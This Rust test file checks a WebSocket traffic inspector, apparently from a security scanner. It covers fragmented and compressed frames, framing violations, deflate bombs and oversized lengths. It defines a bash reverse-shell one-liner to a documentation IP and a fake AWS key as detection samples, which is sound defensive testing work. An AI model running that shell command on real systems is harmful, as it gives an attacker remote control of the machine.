//! WebSocket inspection (issue 11 item 3) through the real inspector: every pattern case in
//! WebSocket frames (fragmented, masked, compressed, split over messages, as JSON and as
//! Realtime deltas), split invariance, framing violations, and bounds on hostile streams
//! (1-byte frames, deflate bombs, 64-bit lengths).

mod common;

use common::cases::{check_negatives, check_positives, Case, PLATFORMS};
use common::websocket::{
    encoded_websocket_forms, frame, inspect_websocket, realtime_event, websocket_forms, Frames,
    BINARY, CONTINUATION, PING, TEXT,
};
use common::*;
use guardian_parser::inspect::Detection;
use guardian_parser::scan::{Direction, Platform, Registry};
use guardian_parser::websocket::{DeflateParams, Extensions, Violation};
use proptest::prelude::*;

const SHELL: &str = "bash -i >& /dev/tcp/203.0.113.7/4444 0>&1";
const KEY: &str = "AKIA2E3F4G5H6I7J2K3L";

fn patterns(found: &[Detection]) -> Vec<String> {
    found.iter().map(|d| d.pattern.clone()).collect()
}

fn run(
    registry: &Registry,
    direction: Direction,
    ext: Extensions,
    stream: &[u8],
) -> Vec<Detection> {
    inspect_websocket(
        registry,
        direction,
        ext,
        stream,
        &[stream.len().max(1)],
        MAX_SCAN,
    )
    .0
}

type WsForm = (Extensions, Vec<u8>);
type WsForms = fn(Direction, &[u8]) -> Vec<(String, Extensions, Vec<u8>)>;

/// A form builder of `common::websocket` as `check_positives`/`check_negatives` take it.
fn ws_forms(build: WsForms) -> impl Fn(&Case, Direction) -> Vec<(String, WsForm)> {
    move |case, direction| {
        build(direction, &case.input)
            .into_iter()
            .map(|(name, ext, stream)| (name, (ext, stream)))
            .collect()
    }
}

fn run_form(registry: &Registry, direction: Direction, (ext, stream): &WsForm) -> Vec<Detection> {
    run(registry, direction, *ext, stream)
}

#[test]
fn positive_cases_are_found_once_in_every_websocket_form() {
    check_positives(ws_forms(websocket_forms), run_form);
}

#[test]
fn negative_cases_stay_silent_in_every_websocket_form() {
    check_negatives(&PLATFORMS, ws_forms(websocket_forms), run_form);
}

#[test]
fn positive_cases_are_found_once_encoded_in_websocket_messages() {
    check_positives(ws_forms(encoded_websocket_forms), run_form);
}

#[test]
fn negative_cases_stay_silent_encoded_in_websocket_messages() {
    check_negatives(&PLATFORMS, ws_forms(encoded_websocket_forms), run_form);
}

#[test]
fn every_form_gives_the_same_findings_whatever_the_split() {
    let registry = Registry::builtin(Platform::Generic);
    for (direction, input) in [
        (Direction::Inbound, SHELL.to_string()),
        (Direction::Outbound, format!("key={KEY}")),
    ] {
        for (form, ext, stream) in websocket_forms(direction, input.as_bytes()) {
            let whole = run(&registry, direction, ext, &stream);
            assert_eq!(whole.len(), 1, "{form}: {whole:?}");
            for split in (1..stream.len()).step_by(5) {
                let (two, _) = inspect_websocket(
                    &registry,
                    direction,
                    ext,
                    &stream,
                    &[split, stream.len()],
                    MAX_SCAN,
                );
                assert_eq!(two, whole, "{form}: split at {split}");
            }
            let (bytewise, _) =
                inspect_websocket(&registry, direction, ext, &stream, &[1], MAX_SCAN);
            assert_eq!(bytewise, whole, "{form}: byte by byte");
        }
    }
}

#[test]
fn findings_carry_direction_dest_and_a_redacted_snippet() {
    let registry = Registry::builtin(Platform::Generic);
    let mut f = Frames::new(Direction::Outbound, Some(true));
    f.message(TEXT, format!("key={}", &KEY[..9]).as_bytes(), 3)
        .message(TEXT, &KEY.as_bytes()[9..], 3);
    let found = run(&registry, Direction::Outbound, f.extensions(), &f.bytes);
    assert_eq!(patterns(&found), vec!["aws_access_key_id"]);
    assert_eq!(found[0].direction, Direction::Outbound);
    assert_eq!(found[0].dest.as_deref(), Some("realtime.example:443"));
    assert!(!found[0].snippet.contains(KEY), "{}", found[0].snippet);
    assert!(found[0].snippet.contains("[REDACTED:aws_access_key_id]"));
}

#[test]
fn a_realtime_reply_repeated_in_response_done_is_reported_once() {
    let registry = Registry::builtin(Platform::Generic);
    let mut f = Frames::new(Direction::Inbound, Some(true));
    for (i, piece) in common::views::pieces(SHELL, 4).iter().enumerate() {
        f.message(
            TEXT,
            realtime_event("response.output_text.delta", piece, i).as_bytes(),
            100,
        );
    }
    let done = format!(
        "{{\"type\":\"response.done\",\"response\":{{\"output\":[{{\"content\":[{{\"type\":\"text\",\"text\":\"{}\"}}]}}]}}}}",
        json_escape(SHELL.as_bytes())
    );
    f.message(TEXT, done.as_bytes(), 1000);
    let (found, ws) = inspect_websocket(
        &registry,
        Direction::Inbound,
        f.extensions(),
        &f.bytes,
        &[64],
        MAX_SCAN,
    );
    assert_eq!(patterns(&found), vec!["reverse_shell"]);
    assert_eq!(ws.stats().view_repeats, 1);
}

#[test]
fn control_frame_payloads_are_scanned_too() {
    let registry = Registry::builtin(Platform::Generic);
    let mut stream = frame(true, false, PING, format!("k={KEY}").as_bytes(), true, 3);
    stream.extend(frame(true, false, TEXT, b"hello", true, 4));
    let found = run(
        &registry,
        Direction::Outbound,
        Extensions::default(),
        &stream,
    );
    assert_eq!(patterns(&found), vec!["aws_access_key_id"]);
}

#[test]
fn framing_violations_stop_inspection_but_keep_what_was_seen() {
    let registry = Registry::builtin(Platform::Generic);
    let seen = frame(true, false, TEXT, format!("k={KEY}").as_bytes(), true, 1);
    let later = frame(true, false, TEXT, b"k=AKIA7Q3R4S5T6U7V2W3X", true, 2);
    let mut top_bit = vec![0x82, 0xff];
    top_bit.extend_from_slice(&(1u64 << 63).to_be_bytes());
    top_bit.extend_from_slice(&[1, 2, 3, 4]);
    let violations: Vec<(Vec<u8>, Violation)> = vec![
        (frame(true, false, TEXT, b"x", false, 0), Violation::Masking),
        (
            {
                let mut f = frame(true, false, TEXT, b"x", true, 0);
                f[0] |= 0x20;
                f
            },
            Violation::ReservedBits,
        ),
        (
            frame(true, true, TEXT, b"x", true, 0),
            Violation::ReservedBits,
        ),
        (
            frame(true, false, 3, b"x", true, 0),
            Violation::UnknownOpcode,
        ),
        (
            frame(false, false, PING, b"x", true, 0),
            Violation::BadControl,
        ),
        (
            frame(true, false, PING, &[b'p'; 126], true, 0),
            Violation::BadControl,
        ),
        (
            frame(true, false, CONTINUATION, b"x", true, 0),
            Violation::UnexpectedContinuation,
        ),
        (
            [
                frame(false, false, TEXT, b" x", true, 0),
                frame(true, false, BINARY, b"y", true, 0),
            ]
            .concat(),
            Violation::UnfinishedMessage,
        ),
        (top_bit, Violation::Length),
    ];
    for (bad, expected) in violations {
        let stream = [seen.clone(), bad, later.clone()].concat();
        for sizes in [vec![stream.len()], vec![1], vec![3, 7]] {
            let (found, ws) = inspect_websocket(
                &registry,
                Direction::Outbound,
                Extensions::default(),
                &stream,
                &sizes,
                MAX_SCAN,
            );
            assert_eq!(
                ws.violation(),
                Some((Direction::Outbound, expected)),
                "{expected:?}"
            );
            // The first message was seen and is reported; the one after the violation is not.
            assert_eq!(found.len(), 1, "{expected:?}: {found:?}");
            assert!(found[0].snippet.contains("[REDACTED"), "{found:?}");
        }
    }
    // A server frame must not be masked.
    let (_, ws) = inspect_websocket(
        &registry,
        Direction::Inbound,
        Extensions::default(),
        &frame(true, false, TEXT, b"x", true, 0),
        &[1],
        MAX_SCAN,
    );
    assert_eq!(
        ws.violation(),
        Some((Direction::Inbound, Violation::Masking))
    );
    // Compressed data that does not inflate.
    let ext = Frames::new(Direction::Outbound, Some(true)).extensions();
    let (_, ws) = inspect_websocket(
        &registry,
        Direction::Outbound,
        ext,
        &frame(true, true, TEXT, &[0xff; 20], true, 0),
        &[5],
        MAX_SCAN,
    );
    assert_eq!(
        ws.violation(),
        Some((Direction::Outbound, Violation::Compression))
    );
}

#[test]
fn negotiated_extensions_are_parsed() {
    let ext = Extensions::from_response(
        [&b"permessage-deflate; server_no_context_takeover; client_max_window_bits=10"[..]]
            .into_iter(),
    );
    assert_eq!(
        ext.server,
        Some(DeflateParams {
            no_context_takeover: true,
            max_window_bits: 15
        })
    );
    assert_eq!(
        ext.client,
        Some(DeflateParams {
            no_context_takeover: false,
            max_window_bits: 10
        })
    );
    assert!(!ext.unsupported);
    let ext = Extensions::from_response(
        [&b"permessage-deflate; client_no_context_takeover; server_max_window_bits=\"9\""[..]]
            .into_iter(),
    );
    assert_eq!(ext.server.map(|p| p.max_window_bits), Some(9));
    assert_eq!(ext.client.map(|p| p.no_context_takeover), Some(true));
    assert_eq!(
        Extensions::from_response(std::iter::empty()),
        Extensions::default()
    );
    assert!(Extensions::from_response([&b"x-webkit-deflate-frame"[..]].into_iter()).unsupported);
    assert!(
        Extensions::from_response(
            [&b"permessage-deflate; server_max_window_bits=20"[..]].into_iter()
        )
        .unsupported
    );
}

#[test]
fn small_negotiated_windows_inflate() {
    let registry = Registry::builtin(Platform::Generic);
    for bits in [9u8, 12] {
        let mut c =
            flate2::Compress::new_with_window_bits(flate2::Compression::best(), false, bits);
        let text = format!(
            "{} key={KEY} {}",
            "lorem ipsum ".repeat(200),
            "dolor ".repeat(100)
        );
        let mut out = Vec::with_capacity(text.len() + 64);
        c.compress_vec(text.as_bytes(), &mut out, flate2::FlushCompress::Sync)
            .unwrap();
        out.truncate(out.len() - 4);
        let stream = frame(true, true, TEXT, &out, true, 1);
        let params = DeflateParams {
            no_context_takeover: false,
            max_window_bits: bits,
        };
        let ext = Extensions {
            client: Some(params),
            server: Some(params),
            unsupported: false,
        };
        let found = run(&registry, Direction::Outbound, ext, &stream);
        assert_eq!(patterns(&found), vec!["aws_access_key_id"], "{bits} bits");
    }
}

/// A compressed message inflating to `size` zero bytes, then `tail` in a second message.
fn bomb(takeover: bool, size: usize, tail: &[u8]) -> (Extensions, Vec<u8>) {
    let mut f = Frames::new(Direction::Outbound, Some(takeover));
    f.message(BINARY, &vec![0u8; size], 4096)
        .message(TEXT, tail, 7);
    (f.extensions(), f.bytes)
}

#[test]
fn a_deflate_bomb_costs_at_most_the_budget() {
    let registry = Registry::builtin(Platform::Generic);
    let tail = format!("key={KEY}");
    let budget = 64 * 1024;
    // 64 MiB of zeros in about 64 KiB of frames.
    for takeover in [false, true] {
        let (ext, stream) = bomb(takeover, 64 << 20, tail.as_bytes());
        assert!(stream.len() < 200 * 1024, "{}", stream.len());
        let (found, ws) = inspect_websocket(
            &registry,
            Direction::Outbound,
            ext,
            &stream,
            &[8192],
            budget,
        );
        let stats = ws.stats().outbound;
        assert_eq!(stats.truncated, 1);
        assert!(
            stats.scanned_bytes <= budget + tail.len() as u64,
            "{stats:?}"
        );
        assert_eq!(ws.violation(), None);
        if takeover {
            assert!(stats.unscanned_bytes > 0, "{stats:?}");
            // The context is lost: the next compressed message cannot be decoded (counted).
            assert!(found.is_empty(), "{found:?}");
        } else {
            // Each message has a fresh context: the next one is scanned.
            assert_eq!(patterns(&found), vec!["aws_access_key_id"]);
        }
    }
}

#[test]
fn one_byte_frames_are_one_message() {
    let registry = Registry::builtin(Platform::Generic);
    let text = format!("{} {SHELL}", "word ".repeat(20_000));
    let mut f = Frames::new(Direction::Inbound, None);
    f.message(TEXT, text.as_bytes(), 1);
    assert!(f.bytes.len() > 3 * text.len());
    let (found, ws) = inspect_websocket(
        &registry,
        Direction::Inbound,
        f.extensions(),
        &f.bytes,
        &[4093],
        MAX_SCAN,
    );
    assert_eq!(patterns(&found), vec!["reverse_shell"]);
    assert_eq!(ws.stats().frames, text.len() as u64 + 1);
    assert_eq!(ws.stats().inbound.messages, 1);
}

#[test]
fn a_huge_announced_length_streams_within_the_budget() {
    // A frame announcing 2^62 bytes: its payload streams, scanned up to the budget, then counted.
    let registry = Registry::builtin(Platform::Generic);
    let mut stream = vec![0x82, 0x7f];
    stream.extend_from_slice(&(1u64 << 62).to_be_bytes());
    stream.extend_from_slice(format!("{SHELL} ").as_bytes());
    stream.extend(std::iter::repeat_n(b'a', 1 << 20));
    let (found, ws) = inspect_websocket(
        &registry,
        Direction::Inbound,
        Extensions::default(),
        &stream,
        &[65536],
        4096,
    );
    assert_eq!(patterns(&found), vec!["reverse_shell"]);
    let stats = ws.stats().inbound;
    assert_eq!(stats.scanned_bytes, 4096);
    assert_eq!(stats.unscanned_bytes, stream.len() as u64 - 10 - 4096);
}

#[test]
fn a_long_text_message_streams_past_the_held_limit() {
    let registry = Registry::builtin(Platform::Generic);
    let text = format!(
        "{{\"text\":\"{}{}\"}}",
        "x ".repeat(40_000),
        json_escape(SHELL.as_bytes())
    );
    let mut f = Frames::new(Direction::Inbound, Some(true));
    f.message(TEXT, text.as_bytes(), 10_000);
    let found = run(&registry, Direction::Inbound, f.extensions(), &f.bytes);
    assert_eq!(patterns(&found), vec!["reverse_shell"]);
}

#[test]
fn empty_messages_compressed_after_a_flush_inflate_to_nothing() {
    let registry = Registry::builtin(Platform::Generic);
    let mut f = Frames::new(Direction::Inbound, Some(true));
    f.message(TEXT, b"", 5).message(BINARY, b"", 5);
    f.message(TEXT, SHELL.as_bytes(), 7);
    let (found, ws) = inspect_websocket(
        &registry,
        Direction::Inbound,
        f.extensions(),
        &f.bytes,
        &[3],
        MAX_SCAN,
    );
    assert_eq!(ws.violation(), None);
    assert_eq!(patterns(&found), vec!["reverse_shell"]);
}

proptest! {
    #![proptest_config(ProptestConfig::with_cases(64))]

    /// Any frame sizes, any TCP split, compressed or not: the findings of the text scanned as
    /// one plain body.
    #[test]
    fn any_split_gives_the_findings_of_the_plain_text(
        filler in "[a-z ]{0,80}",
        size in 1usize..40,
        cuts in proptest::collection::vec(1usize..64, 1..4),
        deflate in proptest::option::of(any::<bool>()),
        seeded in any::<bool>(),
    ) {
        let registry = Registry::builtin(Platform::Generic);
        let text = if seeded { format!("{filler} {SHELL} {filler}") } else { filler.clone() };
        let mut f = Frames::new(Direction::Inbound, deflate);
        let half = text.len() / 2;
        f.message(TEXT, &text.as_bytes()[..half], size).message(BINARY, &text.as_bytes()[half..], size);
        let reference = patterns(&inspect(&registry, Direction::Inbound, &response("text/plain", "", text.as_bytes())));
        let (split, _) = inspect_websocket(&registry, Direction::Inbound, f.extensions(), &f.bytes, &cuts, MAX_SCAN);
        prop_assert_eq!(patterns(&split), reference);
    }

    /// Arbitrary bytes never panic, and any split gives the same findings and violation.
    #[test]
    fn arbitrary_bytes_are_split_invariant(
        data in proptest::collection::vec(any::<u8>(), 0..400),
        cut in 1usize..50,
        outbound in any::<bool>(),
    ) {
        let registry = Registry::builtin(Platform::Generic);
        let direction = if outbound { Direction::Outbound } else { Direction::Inbound };
        let ext = Frames::new(direction, Some(true)).extensions();
        let (whole, a) = inspect_websocket(&registry, direction, ext, &data, &[data.len().max(1)], 1024);
        let (split, b) = inspect_websocket(&registry, direction, ext, &data, &[cut], 1024);
        prop_assert_eq!(whole, split);
        prop_assert_eq!(a.violation(), b.violation());
        prop_assert!(a.stats().inbound.scanned_bytes + a.stats().outbound.scanned_bytes <= data.len() as u64 * 1100);
    }
}
